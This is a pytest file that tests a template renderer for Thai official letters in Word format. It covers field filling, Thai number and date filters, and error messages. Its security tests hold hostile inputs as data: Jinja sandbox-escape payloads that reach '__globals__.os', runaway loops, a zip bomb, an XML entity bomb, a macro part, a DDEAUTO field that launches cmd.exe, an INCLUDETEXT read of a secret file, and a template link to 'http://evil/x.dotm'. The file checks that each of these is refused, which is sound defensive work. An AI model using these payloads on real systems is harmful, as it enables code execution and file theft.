"""The gate: what a template prints, and what it refuses."""

import re
import zipfile
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from html import unescape
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from correspondence.documents.gate import filled, render
from correspondence.documents.properties import properties_of
from correspondence.documents.template import TemplateError, load_template
from correspondence.documents.wordfile import WordFileError, packed, parts_of, read_parts
from correspondence.errors import CorrespondenceError
from correspondence.resources import share

Make = Callable[..., Path]


def part(content: bytes, name: str = "word/document.xml") -> str:
    with zipfile.ZipFile(BytesIO(content)) as package:
        return package.read(name).decode()


def text(content: bytes, name: str = "word/document.xml") -> str:
    """The text as one reads it: a line for each paragraph."""
    xml = part(content, name)
    xml = xml.replace("<w:tab/>", "\t").replace("<w:br/>", "\n").replace("</w:p>", "\n")
    return unescape(re.sub(r"<[^>]*>", "", xml)).strip("\n")


def test_a_field_is_printed(template: Make) -> None:
    assert text(render(template("เรื่อง {{ subject }}"), {"subject": "ขอเชิญประชุม"})) == "เรื่อง ขอเชิญประชุม"


def test_thai_field_names_work(template: Make) -> None:
    assert text(render(template("{{ เรื่อง }}"), {"เรื่อง": "ขอเชิญประชุม"})) == "ขอเชิญประชุม"


@pytest.mark.parametrize("value", ["A & B <c> ก", "{{ subject }}", "{% if %}", "'\"“”", "{# x #}", "]]>", "&lt;"])
def test_a_value_stays_text_whatever_it_holds(template: Make, value: str) -> None:
    assert text(render(template("{{ subject }} จบ"), {"subject": value})) == f"{value} จบ"


def test_a_line_feed_becomes_a_line_break_and_a_tab_a_tab(template: Make) -> None:
    document = render(template("{{ subject }}"), {"subject": "หนึ่ง\r\nสอง\tสาม"})
    assert text(document) == "หนึ่ง\nสอง\tสาม"
    assert part(document).count("<w:br/>") == 1


def test_nothing_prints_nothing(template: Make) -> None:
    assert text(render(template("[{{ phone }}]"), {"phone": None})) == "[]"


def test_characters_that_xml_does_not_know_are_left_out(template: Make) -> None:
    assert text(render(template("{{ subject }}"), {"subject": "ก\x00\x0bข\ud800\uffff"})) == "กข"


@given(value=st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc", "Cn"])))
def test_any_text_comes_out_as_it_went_in(value: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    path = _form(tmp_path_factory)
    assert text(render(path, {"subject": value})).strip("\n") == value.strip("\n")


def _form(factory: pytest.TempPathFactory) -> Path:
    folder = factory.getbasetemp() / "shared-form"
    if not folder.exists():
        folder.mkdir()
        _copy_of_external(folder / "form.docx")
    return folder / "form.docx"


def _copy_of_external(path: Path) -> None:
    """A form of one line, cut out of the shipped one so that the test needs no other maker."""
    from correspondence.resources import share

    parts = read_parts(share() / "templates" / "external.docx")
    document = parts["word/document.xml"].decode()
    paragraph = '<w:p><w:r><w:t xml:space="preserve">{{ subject }}</w:t></w:r></w:p>'
    parts["word/document.xml"] = re.sub(
        r"<w:body>.*?<w:sectPr>.*</w:sectPr>", f"<w:body>{paragraph}", document, flags=re.DOTALL
    ).encode()
    kept = {name: data for name, data in parts.items() if "header" not in name and "footer" not in name}
    path.write_bytes(packed(kept))


def test_a_tag_cut_into_runs_is_one_tag(template: Make) -> None:
    runs = "".join(f"<w:r><w:rPr><w:b/></w:rPr><w:t>{piece}</w:t></w:r>" for piece in ("{", "{ sub", "ject }", "}"))
    assert text(render(template(body=f"<w:p>{runs}</w:p>"), {"subject": "ก"})) == "ก"


def test_a_list_repeats_its_paragraph(template: Make) -> None:
    form = template("{%p for line in address %}", "{{ loop.index }} {{ line }}", "{%p endfor %}")
    assert text(render(form, {"address": ["ก", "ข"]})) == "1 ก\n2 ข"


def test_a_list_repeats_its_row(template: Make) -> None:
    def row(text_: str) -> str:
        return f"<w:tr><w:tc><w:p><w:r><w:t>{text_}</w:t></w:r></w:p></w:tc></w:tr>"

    table = f"<w:tbl>{row('{%tr for line in address %}')}{row('{{ line }}')}{row('{%tr endfor %}')}</w:tbl>"
    document = part(render(template(body=table), {"address": ["ก", "ข", "ค"]}))
    assert document.count("<w:tr>") == 3


def test_headers_and_properties_are_filled_like_the_text(template: Make) -> None:
    document = render(
        template("{{ subject }}", header="{{ secrecy }}", title="{{ subject }}"), {"subject": "ก<&", "secrecy": "ลับ"}
    )
    assert text(document, "word/header1.xml") == "ลับ"
    assert "<dc:title>ก&lt;&amp;</dc:title>" in part(document, "docProps/core.xml")


@pytest.mark.parametrize(
    ("tag", "value", "printed"),
    [
        ("{{ x | thai }}", 2559, "๒๕๕๙"),
        ("{{ x | เลขไทย }}", "plan56@moi.go.th ข้อ 5", "plan56@moi.go.th ข้อ ๕"),
        ("{{ x | long_date }}", date(2016, 7, 22), "๒๒ กรกฎาคม ๒๕๕๙"),
        ("{{ x | วันที่ย่อ }}", "2016-07-22", "๒๒ ก.ค. ๕๙"),
        ("{{ x | บาท }}", Decimal("1250.50"), "หนึ่งพันสองร้อยห้าสิบบาทห้าสิบสตางค์"),
        ("{{ x | words }}", 101, "หนึ่งร้อยเอ็ด"),
        ("{{ x | หลักพัน }}", 611676, "๖๑๑,๖๗๖"),
        ("{{ x | arabic }}", "๒๕๕๙", "2559"),
        ("{{ x | words }}", "๑๐.๕", "สิบจุดห้า"),
        ("{{ x | upper }}", "abc", "ABC"),
        ("{{ [x, 1] | join(', ') }}", "ก", "ก, 1"),
        ("{{ x | replace('ก', 'ข') }}", "กก", "ขข"),
        ("{{ x | default('-') }}", "ก", "ก"),
        ("{{ missing | default('-') }}", "ก", "-"),
    ],
)
def test_filters_write_thai(template: Make, tag: str, value: object, printed: str) -> None:
    assert text(render(template(tag), {"x": value})) == printed


def test_a_filter_that_cannot_work_names_the_paragraph(template: Make) -> None:
    with pytest.raises(TemplateError, match=r"วันที่ .*long_date.*พรุ่งนี้"):
        render(template("วันที่ {{ x | long_date }}"), {"x": "พรุ่งนี้"})


@pytest.mark.parametrize(
    ("tag", "value"),
    [("{{ x | words }}", "มาก"), ("{{ x | thai }}", ["ก"]), ("{{ x | baht }}", object()), ("{{ x }}", {})],
)
def test_a_value_that_is_no_text_or_number_is_refused(template: Make, tag: str, value: object) -> None:
    with pytest.raises(TemplateError, match=re.escape(tag)):
        render(template(tag), {"x": value})


def test_an_empty_day_and_an_empty_text_stay_empty(template: Make) -> None:
    assert text(render(template("[{{ x | long_date }}{{ x | short_date }}{{ x | thai }}]"), {"x": None})) == "[]"


def test_a_missing_field_is_named_with_template_and_paragraph(template: Make) -> None:
    with pytest.raises(TemplateError) as caught:
        render(template("บรรทัดแรก", "เรื่อง {{ subjet }}", "บรรทัดสุดท้าย"), {"subject": "ก"})
    assert (caught.value.template, caught.value.place, caught.value.field) == (
        "form.docx",
        "เรื่อง {{ subjet }}",
        "subjet",
    )
    assert str(caught.value) == "form.docx, at “เรื่อง {{ subjet }}”: there is no field subjet"


def test_a_missing_field_of_an_entry_is_named(template: Make) -> None:
    with pytest.raises(TemplateError, match="there is no field lable"):
        render(template("{%p for one in body %}", "{{ one.lable }}", "{%p endfor %}"), {"body": [{"label": "๑."}]})


def test_a_missing_field_in_a_header_or_a_property_is_named(template: Make) -> None:
    for form in (template(header="{{ secret }}"), template(title="{{ secret }}")):
        with pytest.raises(TemplateError, match="there is no field secret"):
            render(form, {})


@pytest.mark.parametrize("place", ["lines", "header", "title"])
@pytest.mark.parametrize(
    "tag",
    [
        "{{ ''.__class__ }}",
        "{{ ''['__class__'] }}",
        "{{ ''|attr('__class__') }}",
        "{{ cycler.__init__.__globals__.os }}",
        "{{ self.__init__ }}",
        "{{ subject.__class__.__mro__ }}",
        "{% if false %}{{ ''.__class__ }}{% endif %}",
        "{{ subject.format(1) }}",
        "{{ range.__self__ }}",
        "{% include 'other.docx' %}",
        "{% import 'other.docx' as other %}",
        "{% extends 'other.docx' %}",
        "{{ lipsum() }}",
        "{{ ('%s' % subject) }}",
    ],
)
def test_a_template_cannot_reach_into_the_program(template: Make, place: str, tag: str) -> None:
    form = template(tag) if place == "lines" else template(**{place: tag})
    with pytest.raises(TemplateError):
        render(form, {"subject": "ก"})


def test_a_forbidden_name_is_named_with_its_paragraph(template: Make) -> None:
    with pytest.raises(TemplateError) as caught:
        render(template("ดี", "ร้าย {{ ''.__class__ }}"), {})
    assert str(caught.value) == "form.docx, at “ร้าย {{ ''.__class__ }}”: templates may not use __class__"


@pytest.mark.parametrize(
    ("broken", "why"),
    [
        ("เรื่อง {{ subject", "“{{” is not closed"),
        ("เรื่อง {% if", "“{%” is not closed"),
        ("เรื่อง subject }}", "“}}” closes no tag"),
        ("เรื่อง {% if %}", "a tag cannot be understood"),
        ("เรื่อง {{ subject | nonsense }}", "No filter named 'nonsense'"),
        ("{% endif %}", "a tag cannot be understood"),
        ("เรื่อง {{ }}", "a tag cannot be understood"),
    ],
)
def test_a_broken_tag_is_named_with_its_paragraph(template: Make, broken: str, why: str) -> None:
    with pytest.raises(TemplateError, match=re.escape(why)) as caught:
        render(template("บรรทัดแรก", broken, "บรรทัดสุดท้าย"), {"subject": "ก"})
    assert caught.value.place == broken


def test_a_condition_that_is_never_ended_is_refused(template: Make) -> None:
    with pytest.raises(TemplateError, match="a tag cannot be understood"):
        render(template("{%p if subject %}", "ก"), {"subject": "ก"})


def test_tags_that_tear_the_document_apart_are_refused(template: Make) -> None:
    cell = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>{% endif %}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    runs = f"<w:p><w:r><w:t>{{% if a %}}</w:t></w:r></w:p>{cell}"
    with pytest.raises(TemplateError, match="tear the document apart"):
        render(template(body=runs), {"a": ""})


@pytest.mark.parametrize(
    "tag",
    [
        "{% for i in range(10**9) %}x{% endfor %}",
        "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
        "{{ 'x' * 10**9 }}",
        "{{ 10 ** (10 ** 8) }}",
        "{{ 'x'|center(10**9) }}",
        "{{ 'x'.ljust(10**9) }}",
        "{% set n = namespace(x='xxxxxxxxxx') %}{% for i in range(60) %}{% set n.x = n.x ~ n.x %}{% endfor %}",
        "{% set n = namespace(x='xxxxxxxxxx') %}{% for i in range(60) %}{% set n.x = n.x + n.x %}{% endfor %}",
        "{% set n = namespace(x='x') %}{% for i in range(60) %}{% set n.x = n.x|replace('x', 'xx') %}{% endfor %}",
        "{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}{{ f(60) }}",
        "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        "{% for i in range(90000) %}" + "{{ subject }}" * 5 + "{% endfor %}",
    ],
)
def test_endless_work_and_endless_text_are_refused(template: Make, tag: str) -> None:
    with pytest.raises(TemplateError):
        render(template(tag), {"subject": "ก" * 1000})


def test_a_list_printed_as_text_is_refused_with_advice(template: Make) -> None:
    with pytest.raises(TemplateError, match="print its items"):
        render(template("{{ address }}"), {"address": ["ก"]})


def test_the_same_letter_gives_the_same_bytes(template: Make) -> None:
    form = template("{{ subject }}")
    assert render(form, {"subject": "ก"}) == render(form, {"subject": "ก"})


def test_a_template_made_ready_once_fills_many_letters(template: Make) -> None:
    form = load_template(template("{{ subject }}"))
    assert [text(filled(form, {"subject": word})) for word in ("ก", "ข")] == ["ก", "ข"]


def test_a_letter_remembers_its_template_and_number(template: Make) -> None:
    form = template("{{ number }}")
    remembered = properties_of(parts_of(render(form, {"number": "พร ๐๐๒๓.๓/ว ๓๐๗๑"}), "letter"))
    assert remembered["saraban.template"] == "form.docx"
    assert remembered["saraban.number"] == "พร ๐๐๒๓.๓/ว ๓๐๗๑"
    assert re.fullmatch("[0-9a-f]{64}", remembered["saraban.sha256"])


def test_what_is_no_word_file_is_refused(tmp_path: Path) -> None:
    for name, content in (("text.docx", b"hello"), ("empty.docx", b""), ("zip.docx", _zip({"a": b""}))):
        (tmp_path / name).write_bytes(content)
        with pytest.raises(WordFileError, match=name):
            render(tmp_path / name, {})
    with pytest.raises(WordFileError):
        render(tmp_path / "missing.docx", {})


@pytest.mark.parametrize(
    "damaged",
    ["[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels", "docProps/core.xml"],
)
def test_a_damaged_part_is_named(template: Make, damaged: str) -> None:
    form = template("{{ subject }}")
    form.write_bytes(packed(read_parts(form) | {damaged: b"<broken"}))
    with pytest.raises(WordFileError, match=re.escape(f"its part {damaged} is damaged")):
        render(form, {"subject": "ก"})


def test_a_zip_bomb_is_refused(template: Make) -> None:
    with pytest.raises(WordFileError, match="64 MB"):
        render(template(parts={"word/media/a.bin": bytes(80_000_000)}), {})


def test_entities_are_refused(template: Make) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    with pytest.raises(WordFileError, match="entities"):
        render(template(parts={"word/extra.xml": bomb}), {})


@pytest.mark.parametrize(
    ("extra", "why"),
    [
        ({"parts": {"word/vbaProject.bin": b"x"}}, "macros"),
        (
            {
                "relations": '<Relationship Id="x" Type="http://x/attachedTemplate" '
                'Target="http://evil/x.dotm" TargetMode="External"/>'
            },
            "linked to something outside",
        ),
        ({"body": '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'}, "DDEAUTO"),
        ({"body": '<w:p><w:fldSimple w:instr=" INCLUDETEXT c:/secret.txt "/></w:p>'}, "INCLUDETEXT"),
    ],
)
def test_what_reaches_outside_the_document_is_refused(template: Make, extra: dict[str, object], why: str) -> None:
    with pytest.raises(TemplateError, match=why):
        render(template("ก", **extra), {})


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize("place", range(0, 4000, 97))
def test_one_damaged_byte_is_refused_or_harmless_but_never_a_fault(tmp_path: Path, place: int) -> None:
    damaged = bytearray((share() / "templates" / "stamped.docx").read_bytes())
    damaged[place % len(damaged)] ^= 0xFF
    path = tmp_path / "stamped.docx"
    path.write_bytes(damaged)
    told = _refusal(path)
    assert not told or "stamped.docx" in told


def _refusal(path: Path) -> str:
    try:
        load_template(path)
    except CorrespondenceError as refused:
        return str(refused)
    return ""
